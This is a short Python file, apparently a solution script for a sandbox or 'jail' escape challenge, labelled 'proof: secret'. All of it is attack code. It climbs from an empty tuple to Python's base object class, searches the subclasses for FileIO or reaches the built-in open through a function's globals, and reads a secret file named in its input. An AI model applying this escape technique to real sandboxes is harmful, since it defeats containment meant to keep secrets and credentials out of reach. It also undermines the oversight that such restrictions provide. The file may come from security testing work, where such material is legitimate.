# proof: secret
# behind: jail
# Climbs from a tuple to object, and down again to a class that opens files.
from routes import first


def opener(kinds):
    for kind in kinds:
        if kind.__name__ == "FileIO":
            return kind
        found = opener(type.__subclasses__(kind)) if kind is not type else None
        if found is not None:
            return found
    return None


def attempt(input, caps):
    return first(
        lambda: opener(().__class__.__base__.__subclasses__())(input["secretFile"]).readall().decode(),
        lambda: ().__class__.__mro__[1].__subclasses__.__self__.__subclasses__()[0].__init__.__globals__["open"](input["secretFile"]).read(),
    )
